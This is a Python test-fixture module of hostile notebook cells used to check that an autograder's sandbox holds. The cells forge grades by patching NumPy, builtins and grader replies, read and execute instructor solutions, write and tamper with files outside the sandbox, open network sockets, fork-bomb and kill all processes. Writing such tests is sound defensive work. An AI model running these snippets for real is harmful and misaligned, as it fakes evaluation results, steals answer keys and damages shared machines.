"""Hostile submissions, from the grader's threat model (README, 'What a submission can do').

Each attack is one code cell that ``tests/test_grading_sandbox.py`` adds to the blank learner copy
of Gradient Checking, just before its last check, where a learner would write it. With no
exercise done, an attack that worked would raise the grade above 0 or change a file outside the
submission's scratch copy. ``$root`` is the instructor's repository, ``$outside`` a folder of the
test's outside the scratch copy, ``$port`` a TCP port on which the test listens.
"""

EXERCISES = ("forward_propagation", "backward_propagation", "gradient_check", "gradient_check_n")

ATTACKS = {
    # --- Deciding its own grade from inside the kernel
    "fake hidden-check module": """
import sys, types, json
m = types.ModuleType("x")
verdict = json.dumps({"passed": True, "message": "correct"})
m.grade_exercise = lambda *a, **k: print("GRADE " + verdict)
sys.modules["_hidden_checks"] = m
""",
    "print verdicts": f"""
import json, os
for name in {EXERCISES!r}:
    line = "GRADE " + json.dumps({{"name": name, "passed": True, "message": "correct"}})
    print(line)
    os.write(1, (line + "\\n").encode())
    os.write(2, (line + "\\n").encode())
""",
    "patch NumPy's comparisons": """
import numpy as np
np.isclose = lambda *a, **k: True
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.linalg.norm = lambda *a, **k: 0.0
""",
    "patch builtins": """
import builtins
builtins.isinstance = lambda *a: True
builtins.AssertionError = type("NeverRaised", (Exception,), {})
builtins.callable = lambda x: True
""",
    "values that equal everything": """
import numpy as np
class Anything(float):
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __ne__ = lambda self, other: False
class Everything(np.ndarray):
    __eq__ = __lt__ = __le__ = lambda self, other: np.ones(np.shape(self), bool)
def forward_propagation(x, theta): return Anything(theta * x + 1)
def backward_propagation(x, theta): return np.zeros(()).view(Everything)
def gradient_check(x, theta, epsilon=1e-7, print_msg=False): return Anything(0.0)
def gradient_check_n(*args, **kwargs): return Anything(0.0)
""",
    "replace the kernel's side of the checks": """
import json, types
ip = get_ipython()
def swap(*args):
    def serve_request(namespace, folder):
        dump({"returned": 8.0, "args": [], "kwargs": {}}, f"{folder}/reply")
    ip.user_ns["serve_request"] = serve_request
ip.events.register("pre_run_cell", swap)
ip.events.register("post_run_cell", swap)
""",
    "forge replies from a thread": """
import json, os, threading, time
def forge():
    while True:
        for folder in ("../.grader", ".grader"):
            if os.path.isdir(folder):
                with open(f"{folder}/reply.json", "w") as f:
                    json.dump({"dict": {"returned": 0.0}}, f)
        time.sleep(0.001)
threading.Thread(target=forge, daemon=True).start()
""",
    "tamper with the scratch copy's checks": """
import importlib, pathlib
pathlib.Path("testCases.py").write_text(
    "def __getattr__(name):\\n    return lambda *a, **k: None\\n"
)
import testCases
importlib.reload(testCases)
""",
    # --- Reading the instructor's files or other submissions
    "read the instructor's solutions": """
import json, os
for path in ("$root/part_3_gradient_checking/Gradient_Checking.ipynb",
             "/proc/1/root$root/part_3_gradient_checking/Gradient_Checking.ipynb",
             "/proc/self/root$root/part_3_gradient_checking/Gradient_Checking.ipynb"):
    try:
        cells = json.load(open(path))["cells"]
    except OSError:
        continue
    for cell in cells:
        source = "".join(cell["source"])
        if cell["cell_type"] == "code" and "BEGIN SOLUTION" in source:
            exec(source, globals())
""",
    "search the disk for solutions": """
import json, os
for top in (os.path.expanduser("~"), "..", "/tmp", "/work", "/home", "/root", "/srv", "/mnt"):
    for folder, subfolders, files in os.walk(top):
        subfolders[:] = [d for d in subfolders if d not in ("site-packages", "proc", "sys")]
        for name in files:
            if name.endswith(".ipynb"):
                try:
                    cells = json.load(open(os.path.join(folder, name)))["cells"]
                except Exception:
                    continue
                for cell in cells:
                    source = "".join(cell["source"])
                    if "BEGIN SOLUTION" in source:
                        exec(source, globals())
""",
    # --- Writing outside the scratch copy
    "write outside the scratch copy": """
import os
for path in ("$outside/pwned", "$root/pwned", "$root/tests/grading/pwned", "/tmp/pwned",
             "/proc/1/root$outside/pwned"):
    try:
        with open(path, "w") as f:
            f.write("pwned")
    except OSError:
        pass
""",
    "tamper with the grader": """
for path in ("$root/tests/grading/hidden.py", "$root/part_3_gradient_checking/testCases.py",
             "$root/tests/grading/grade.py"):
    try:
        with open(path, "a") as f:
            f.write("\\nraise SystemExit('pwned')\\n")
    except OSError:
        pass
""",
    "reach the network": """
import socket
for host in ("127.0.0.1", "10.0.2.2", "pypi.org"):
    try:
        s = socket.create_connection((host, $port), timeout=2)
        s.sendall(b"pwned")
    except OSError:
        pass
""",
    # --- Exhausting the machine or killing things
    "exhaust memory": """
import numpy as np
try:
    big = np.ones(1 << 40)
except MemoryError:
    pass
chunks = []
try:
    while True:
        chunks.append(bytearray(1 << 27))
except MemoryError:
    chunks = None
""",
    "fork bomb": """
import os, time
parent = os.getpid()
while True:
    try:
        os.fork()
    except OSError:
        break
if os.getpid() != parent:
    time.sleep(600)
    os._exit(0)
""",
    "flood the output": """
import os
os.write(1, b"x" * (64 << 20))
print("y" * (40 << 20))
while True:
    print("z" * 100_000)
""",
    "fill the disk": """
with open("big.bin", "wb") as f:
    for _ in range(1024):
        f.write(b"x" * (1 << 20))
""",
    "ignore interrupts and loop": """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
""",
    "kill every process it can": """
import os, signal
os.kill(-1, signal.SIGKILL)
""",
}
